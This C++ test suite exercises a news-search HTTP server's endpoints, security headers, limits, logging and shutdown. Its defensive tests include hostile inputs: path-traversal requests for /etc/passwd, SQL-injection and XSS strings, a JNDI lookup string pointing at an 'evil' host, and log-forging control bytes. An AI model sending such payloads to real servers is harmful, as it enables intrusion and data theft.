// A real server on a free port: every endpoint over HTTP, headers, static files, CORS,
// limits, hostile requests, concurrency and shutdown.
#include <atomic>
#include <filesystem>
#include <fstream>
#include <gtest/gtest.h>
#include <httplib.h>
#include <signal.h>
#include <thread>

#include <rassegna/error.h>

#include "searcher/api/http_server.h"
#include "test_support.h"

namespace rassegna::api {
namespace {

using nlohmann::json;
using test::corpus_db;
using test::kSeedId;
using test::url_encode;

// A web folder with a page, a script and a style sheet.
class WebDir {
 public:
  WebDir() {
    std::ofstream(dir_ / "index.html") << "<!doctype html><title>Rassegna test page</title><script src=app.js></script>";
    std::ofstream(dir_ / "app.js") << "console.log('ok');";
    std::ofstream(dir_ / "style.css") << "body{}";
  }
  const std::string& path() const { return dir_.path(); }

 private:
  test::TempDir dir_;
};

httplib::Client client(int port) {
  httplib::Client c("127.0.0.1", port);
  c.set_connection_timeout(2);
  c.set_read_timeout(10);
  return c;
}

class ServerTest : public ::testing::Test {
 protected:
  static void SetUpTestSuite() {
    web_ = new WebDir();
    log_ = new test::LogSink();
    ServerOptions o = test::server_options(corpus_db(), *log_);
    o.web_dir = web_->path();
    server_ = new HttpServer(o);
    port_ = server_->start();
  }
  static void TearDownTestSuite() {
    delete server_;  // stops and joins
    delete web_;
    delete log_;
  }
  static httplib::Result get(const std::string& target) {
    httplib::Client c = client(port_);
    return c.Get(target.c_str());
  }

  static WebDir* web_;
  static test::LogSink* log_;
  static HttpServer* server_;
  static int port_;
};
WebDir* ServerTest::web_ = nullptr;
test::LogSink* ServerTest::log_ = nullptr;
HttpServer* ServerTest::server_ = nullptr;
int ServerTest::port_ = 0;

void expect_security_headers(const httplib::Response& r) {
  EXPECT_EQ(r.get_header_value("X-Content-Type-Options"), "nosniff");
  EXPECT_EQ(r.get_header_value("X-Frame-Options"), "DENY");
  EXPECT_EQ(r.get_header_value("Referrer-Policy"), "no-referrer");
  const std::string csp = r.get_header_value("Content-Security-Policy");
  EXPECT_NE(csp.find("default-src 'self'"), std::string::npos);
  EXPECT_NE(csp.find("script-src 'self'"), std::string::npos);
  EXPECT_EQ(csp.find("unsafe-inline"), std::string::npos);
  EXPECT_FALSE(r.has_header("Access-Control-Allow-Origin"));  // CORS is off by default
}

json expect_error(const httplib::Result& res, int status, const std::string& code) {
  EXPECT_TRUE(res) << "no response";
  if (!res) return {};
  EXPECT_EQ(res->status, status) << res->body;
  EXPECT_EQ(res->get_header_value("Content-Type"), "application/json; charset=utf-8");
  json j = json::parse(res->body, nullptr, false);
  EXPECT_FALSE(j.is_discarded()) << res->body;
  if (j.is_discarded()) return {};
  EXPECT_EQ(j["error"]["code"], code) << res->body;
  EXPECT_TRUE(j["error"]["message"].is_string());
  return j;
}

TEST_F(ServerTest, StartsOnAFreePortWithWorkers) {
  EXPECT_GT(port_, 0);
  EXPECT_TRUE(server_->running());
  EXPECT_EQ(server_->workers(), 2u);
  EXPECT_GE(server_->connection_threads(), server_->workers());
  EXPECT_EQ(server_->web_dir(), web_->path());
}

TEST_F(ServerTest, TheDoneWhenExample) {
  auto res = get("/api/search?q=amministrazione&company=Oracle");
  ASSERT_TRUE(res);
  ASSERT_EQ(res->status, 200) << res->body;
  EXPECT_EQ(res->get_header_value("Content-Type"), "application/json; charset=utf-8");
  EXPECT_EQ(res->get_header_value("Cache-Control"), "no-store");
  expect_security_headers(*res);
  json j = json::parse(res->body);
  ASSERT_EQ(j["hits"].size(), 1u);
  EXPECT_EQ(j["hits"][0]["id"], kSeedId);
  EXPECT_NE(j["hits"][0]["snippet"].get<std::string>().find("<mark>amministrazione</mark>"), std::string::npos);
  EXPECT_FALSE(j["facets"]["company"].empty());
  EXPECT_EQ(j["total"], 1);
  EXPECT_EQ(j["total_exact"], true);
}

TEST_F(ServerTest, EveryEndpoint) {
  auto article = get(std::string("/api/articles/") + kSeedId + "?q=amministrazione");
  ASSERT_TRUE(article);
  EXPECT_EQ(article->status, 200);
  json a = json::parse(article->body);
  EXPECT_EQ(a["id"], kSeedId);
  EXPECT_NE(a["body_html"].get<std::string>().find("<mark>"), std::string::npos);

  auto health = get("/api/health");
  ASSERT_TRUE(health);
  EXPECT_EQ(health->status, 200);
  EXPECT_EQ(json::parse(health->body)["status"], "ok");

  auto stats = get("/api/stats");
  ASSERT_TRUE(stats);
  EXPECT_EQ(json::parse(stats->body)["articles"], test::kCorpusArticles);

  auto doc = get("/api/openapi.json");
  ASSERT_TRUE(doc);
  EXPECT_EQ(doc->status, 200);
  EXPECT_TRUE(json::parse(doc->body).contains("paths"));

  httplib::Client c = client(port_);
  auto head = c.Head("/api/health");
  ASSERT_TRUE(head);
  EXPECT_EQ(head->status, 200);
  EXPECT_TRUE(head->body.empty());
}

TEST_F(ServerTest, RepeatedCompaniesAndUtf8Parameters) {
  auto res = get("/api/search?company=Oracle&company=Microsoft&facets=0&size=100");
  ASSERT_TRUE(res);
  ASSERT_EQ(res->status, 200);
  json j = json::parse(res->body);
  EXPECT_GT(j["total"].get<int>(), 1);
  for (const auto& h : j["hits"]) {
    const auto& c = h["companies"];
    EXPECT_TRUE(std::find(c.begin(), c.end(), "Oracle") != c.end() || std::find(c.begin(), c.end(), "Microsoft") != c.end());
  }
  auto accented = get("/api/search?q=" + url_encode("spunterà") + "&lang=it");
  ASSERT_TRUE(accented);
  EXPECT_EQ(accented->status, 200);
  EXPECT_EQ(json::parse(accented->body)["query"], "spunterà");
}

TEST_F(ServerTest, StaticPage) {
  auto index = get("/");
  ASSERT_TRUE(index);
  EXPECT_EQ(index->status, 200);
  EXPECT_NE(index->body.find("Rassegna test page"), std::string::npos);
  EXPECT_NE(index->get_header_value("Content-Type").find("text/html"), std::string::npos);
  expect_security_headers(*index);

  auto script = get("/app.js");
  ASSERT_TRUE(script);
  EXPECT_EQ(script->status, 200);
  EXPECT_NE(script->get_header_value("Content-Type").find("javascript"), std::string::npos);

  expect_error(get("/missing.js"), 404, "not_found");
  // Traversal out of the web folder: refused, and never the file.
  for (const char* target : {"/../../../../etc/passwd", "/%2e%2e/%2e%2e/%2e%2e/etc/passwd", "/..%2f..%2f..%2fetc%2fpasswd"}) {
    std::string raw = test::raw_http(port_, std::string("GET ") + target + " HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n");
    EXPECT_EQ(raw.find("root:"), std::string::npos) << target;
    EXPECT_GE(test::raw_status(raw), 400) << target << "\n" << raw;
  }
}

TEST_F(ServerTest, ErrorPaths) {
  json e = expect_error(get("/api/search?size=0"), 400, "invalid_argument");
  EXPECT_EQ(e["error"]["message"].get<std::string>().rfind("size:", 0), 0u);
  expect_error(get("/api/search?page=0"), 400, "invalid_argument");
  expect_error(get("/api/search?page=100000"), 400, "invalid_argument");
  expect_error(get("/api/search?size=101"), 400, "invalid_argument");
  expect_error(get("/api/search?sort=random"), 400, "invalid_argument");
  expect_error(get("/api/search?lang=de"), 400, "invalid_argument");
  expect_error(get("/api/search?facets=maybe"), 400, "invalid_argument");
  expect_error(get("/api/search?from=ieri"), 400, "invalid_argument");
  expect_error(get("/api/search?q=%22open"), 400, "invalid_argument");
  expect_error(get("/api/nope"), 404, "not_found");
  expect_error(get("/nope/at/all"), 404, "not_found");
  expect_error(get("/api/articles/no-such-article"), 404, "not_found");
  expect_error(get("/api/articles/"), 404, "not_found");

  httplib::Client c = client(port_);
  auto post = c.Post("/api/search", "q=x", "application/x-www-form-urlencoded");
  expect_error(post, 405, "method_not_allowed");
  EXPECT_EQ(post->get_header_value("Allow"), "GET, HEAD");
  expect_error(c.Delete("/api/articles/x"), 405, "method_not_allowed");
  auto options = c.Options("/api/search");
  ASSERT_TRUE(options);
  EXPECT_EQ(options->status, 204);
}

TEST_F(ServerTest, HostileParameters) {
  const std::vector<std::string> targets = {
      "/api/search?q=%FF%FE",                                // invalid UTF-8
      "/api/search?q=%C0%AF",                                // overlong
      "/api/search?q=a%00b",                                 // NUL
      "/api/search?company=%80",                             //
      "/api/search?q=" + std::string(4097, 'a'),             // too long
      "/api/search?q=a&q=b",                                 // twice
      "/api/search?size=18446744073709551617",               // overflow
      "/api/search?page=-1",
  };
  for (const auto& t : targets) expect_error(get(t), 400, "invalid_argument");

  const std::vector<std::string> fine = {
      "/api/search?q=" + url_encode("'; DROP TABLE articles; --"),
      "/api/search?q=" + url_encode("<script>alert(1)</script>"),
      "/api/search?q=" + url_encode("${jndi:ldap://evil/x}"),
      "/api/search?q=" + url_encode("../../etc/passwd"),
      "/api/search?q=" + url_encode("\" OR \"1\"=\"1"),
      "/api/search?q=" + std::string(4096, 'b'),
      "/api/search?q=",
      "/api/search?q=&company=&lang=&from=&to=&sort=",
      "/api/search?utm_source=x&callback=alert",
      "/api/search?q=%F0%9F%99%82",
  };
  for (const auto& t : fine) {
    auto res = get(t);
    ASSERT_TRUE(res) << t;
    EXPECT_TRUE(res->status == 200 || res->status == 400) << t << " -> " << res->status << " " << res->body;
    EXPECT_EQ(res->get_header_value("Content-Type"), "application/json; charset=utf-8");
    json j = json::parse(res->body, nullptr, false);
    ASSERT_FALSE(j.is_discarded()) << t;
    for (const auto& h : j.value("hits", json::array())) {
      EXPECT_EQ(h["snippet"].get<std::string>().find("<script"), std::string::npos);
    }
  }
  // Reflected text stays inside JSON strings: the response is never HTML.
  auto xss = get("/api/articles/" + url_encode("<script>alert(1)</script>"));
  ASSERT_TRUE(xss);
  EXPECT_EQ(xss->status, 404);
  EXPECT_EQ(xss->get_header_value("X-Content-Type-Options"), "nosniff");
  EXPECT_EQ(xss->get_header_value("Content-Type"), "application/json; charset=utf-8");
}

TEST_F(ServerTest, RequestSizeLimits) {
  // URI longer than cpp-httplib's 8 KiB limit.
  std::string huge = "/api/search?q=" + std::string(9000, 'a');
  auto uri = get(huge);
  ASSERT_TRUE(uri);
  EXPECT_EQ(uri->status, 414);
  // Body larger than the payload limit.
  httplib::Client c = client(port_);
  auto body = c.Post("/api/search", std::string(100 * 1024, 'x'), "text/plain");
  if (body) {
    EXPECT_EQ(body->status, 413);
  }  // else: the server hung up while the client was still sending, which is also a refusal
  // Garbage instead of a request line.
  std::string raw = test::raw_http(port_, "HELLO\r\n\r\n");
  EXPECT_EQ(test::raw_status(raw), 400) << raw;
  // The server is still fine.
  auto ok = get("/api/health");
  ASSERT_TRUE(ok);
  EXPECT_EQ(ok->status, 200);
}

TEST_F(ServerTest, SlowClientsAreDropped) {
  // Half a request, then silence: the read timeout (1 s here) ends the request with a 400 and
  // the keep-alive timeout (1 s here) closes the connection.
  const auto start = std::chrono::steady_clock::now();
  std::string raw = test::raw_http(port_, "GET /api/health HTTP/1.1\r\nHost: x\r\n", 8000);
  const auto waited = std::chrono::steady_clock::now() - start;
  EXPECT_LT(waited, std::chrono::milliseconds(4000)) << "the connection was not closed";
  EXPECT_EQ(raw.find("200 OK"), std::string::npos) << raw;
}

TEST_F(ServerTest, ClientsThatHangUpDoNotKillTheProcess) {
  // cpp-httplib writes without MSG_NOSIGNAL: writing to a reset connection raises SIGPIPE, which
  // would end the whole process. httplib::Server's constructor ignores SIGPIPE (process-wide);
  // rassegna-server does too.
  struct sigaction current {};
  ASSERT_EQ(sigaction(SIGPIPE, nullptr, &current), 0);
  EXPECT_EQ(current.sa_handler, SIG_IGN);
  for (int i = 0; i < 20; ++i) {
    test::hang_up_after_sending(port_, "GET /api/search?size=100&q=the HTTP/1.1\r\nHost: x\r\n\r\n");
  }
  auto ok = get("/api/health");
  ASSERT_TRUE(ok);
  EXPECT_EQ(ok->status, 200);
}

TEST_F(ServerTest, AccessLogOneLinePerRequest) {
  auto res = get("/api/search?q=access-log-probe");
  ASSERT_TRUE(res);
  get("/api/articles/access-log-missing");
  // The log line is written after the response: give the worker a moment.
  for (int i = 0; i < 100 && !log_->contains("access-log-missing"); ++i) {
    std::this_thread::sleep_for(std::chrono::milliseconds(10));
  }
  bool found_search = false, found_missing = false;
  for (const auto& line : log_->lines()) {
    if (line.find("GET /api/search?q=access-log-probe 200 ") != std::string::npos &&
        line.find(" ms") != std::string::npos) {
      found_search = true;
    }
    if (line.find("GET /api/articles/access-log-missing 404 ") != std::string::npos) found_missing = true;
  }
  EXPECT_TRUE(found_search);
  EXPECT_TRUE(found_missing);

  // Control bytes in a target are escaped, so a request cannot forge log lines.
  test::raw_http(port_, "GET /api/x\x1b[31m\rFAKE HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n", 1000);
  std::this_thread::sleep_for(std::chrono::milliseconds(50));
  for (const auto& line : log_->lines()) {
    EXPECT_EQ(line.find('\x1b'), std::string::npos);
    EXPECT_EQ(line.find('\r'), std::string::npos);
  }
}

TEST_F(ServerTest, ConcurrentClients) {
  constexpr int kThreads = 8, kRequests = 25;
  std::atomic<int> failures{0}, done{0};
  std::vector<std::thread> threads;
  for (int t = 0; t < kThreads; ++t) {
    threads.emplace_back([&, t] {
      httplib::Client c = client(port_);
      c.set_keep_alive(t % 2 == 0);
      const std::vector<std::string> targets = {"/api/search?q=tiktok", "/api/search?q=oracle&facets=0",
                                                std::string("/api/articles/") + kSeedId, "/api/stats",
                                                "/api/search?company=Oracle&sort=date"};
      for (int i = 0; i < kRequests; ++i) {
        auto res = c.Get(targets[static_cast<size_t>(i + t) % targets.size()].c_str());
        if (!res || res->status != 200) ++failures;
        ++done;
      }
    });
  }
  for (auto& t : threads) t.join();
  EXPECT_EQ(failures.load(), 0);
  EXPECT_EQ(done.load(), kThreads * kRequests);
}

TEST(ServerOptionsTest, CorsWhenAsked) {
  test::LogSink log;
  ServerOptions o = test::server_options(corpus_db(), log);
  o.cors_origin = "https://news.example";
  HttpServer server(o);
  int port = server.start();
  httplib::Client c = client(port);
  auto res = c.Get("/api/health");
  ASSERT_TRUE(res);
  EXPECT_EQ(res->get_header_value("Access-Control-Allow-Origin"), "https://news.example");
  EXPECT_EQ(res->get_header_value("Vary"), "Origin");
  auto preflight = c.Options("/api/search", {{"Origin", "https://news.example"}, {"Access-Control-Request-Method", "GET"}});
  ASSERT_TRUE(preflight);
  EXPECT_EQ(preflight->status, 204);
  EXPECT_EQ(preflight->get_header_value("Access-Control-Allow-Origin"), "https://news.example");
  EXPECT_NE(preflight->get_header_value("Access-Control-Allow-Methods").find("GET"), std::string::npos);
  server.stop();
}

TEST(ServerOptionsTest, MissingWebFolderStillServesTheApi) {
  test::LogSink log;
  ServerOptions o = test::server_options(corpus_db(), log);
  o.web_dir = "/nonexistent/rassegna-web";
  HttpServer server(o);
  int port = server.start();
  EXPECT_TRUE(server.web_dir().empty());
  EXPECT_TRUE(log.contains("no browser page"));
  httplib::Client c = client(port);
  json e = expect_error(c.Get("/"), 404, "not_found");
  EXPECT_NE(e["error"]["message"].get<std::string>().find("--web"), std::string::npos);
  auto api = c.Get("/api/search?q=oracle");
  ASSERT_TRUE(api);
  EXPECT_EQ(api->status, 200);
}

TEST(ServerOptionsTest, QuietMeansNoAccessLog) {
  test::LogSink log;
  ServerOptions o = test::server_options(corpus_db(), log);
  o.access_log = false;
  HttpServer server(o);
  int port = server.start();
  httplib::Client c = client(port);
  ASSERT_TRUE(c.Get("/api/health"));
  server.stop();
  EXPECT_TRUE(log.lines().empty());
}

TEST(ServerOptionsTest, BadOptionsAndBusyPorts) {
  test::LogSink log;
  ServerOptions o = test::server_options(corpus_db(), log);
  o.port = 70000;
  EXPECT_THROW(HttpServer{o}, Error);

  HttpServer first(test::server_options(corpus_db(), log));
  int port = first.start();
  ServerOptions same = test::server_options(corpus_db(), log);
  same.port = port;
  HttpServer second(same);
  try {
    second.start();
    ADD_FAILURE() << "bound a port already in use";
  } catch (const Error& e) {
    EXPECT_EQ(e.code(), ErrorCode::unavailable);
    EXPECT_NE(std::string(e.what()).find(std::to_string(port)), std::string::npos);
  }
}

TEST(ServerDatabase, StartsWithoutADatabaseAndPicksItUp) {
  test::TempDir dir;
  test::LogSink log;
  const std::string db = dir / "db";
  HttpServer server(test::server_options(db, log));
  int port = server.start();
  httplib::Client c = client(port);

  json e = expect_error(c.Get("/api/search?q=oracle"), 503, "unavailable");
  EXPECT_NE(e["error"]["message"].get<std::string>().find("not available"), std::string::npos);
  auto health = c.Get("/api/health");
  ASSERT_TRUE(health);
  EXPECT_EQ(health->status, 503);
  EXPECT_EQ(json::parse(health->body)["status"], "degraded");
  EXPECT_FALSE(health->get_header_value("Retry-After").empty());

  test::index_into(db, {test::seed_article_path()});
  auto res = c.Get("/api/search?q=amministrazione&company=Oracle");
  ASSERT_TRUE(res);
  ASSERT_EQ(res->status, 200) << res->body;
  EXPECT_EQ(json::parse(res->body)["hits"][0]["id"], kSeedId);
  auto ok = c.Get("/api/health");
  ASSERT_TRUE(ok);
  EXPECT_EQ(ok->status, 200);
}

TEST(ServerShutdown, StopIsCleanIdempotentAndFreesThePort) {
  test::LogSink log;
  for (int round = 0; round < 3; ++round) {
    HttpServer server(test::server_options(corpus_db(), log));
    int port = server.start();
    ASSERT_TRUE(server.running());
    std::atomic<bool> go{true};
    std::atomic<int> answered{0}, bad{0};
    std::vector<std::thread> clients;
    for (int t = 0; t < 4; ++t) {
      clients.emplace_back([&] {
        httplib::Client c = client(port);
        c.set_connection_timeout(1);
        while (go) {
          auto res = c.Get("/api/search?q=tiktok");
          if (!res) break;  // the server has gone: expected once stop() runs
          if (res->status == 200) {
            ++answered;
          } else {
            ++bad;
          }
        }
      });
    }
    while (answered < 5) std::this_thread::sleep_for(std::chrono::milliseconds(2));
    server.stop();
    EXPECT_FALSE(server.running());
    server.stop();  // again: nothing happens
    go = false;
    for (auto& t : clients) t.join();
    EXPECT_EQ(bad.load(), 0);
    // Nobody listens any more.
    EXPECT_TRUE(test::raw_http(port, "GET /api/health HTTP/1.1\r\nHost: x\r\n\r\n", 300).empty());
  }
}

TEST(ServerShutdown, DestructorStopsARunningServer) {
  test::LogSink log;
  int port;
  {
    HttpServer server(test::server_options(corpus_db(), log));
    port = server.start();
    httplib::Client c = client(port);
    ASSERT_TRUE(c.Get("/api/health"));
  }
  EXPECT_TRUE(test::raw_http(port, "GET / HTTP/1.1\r\n\r\n", 300).empty());
}

}  // namespace
}  // namespace rassegna::api
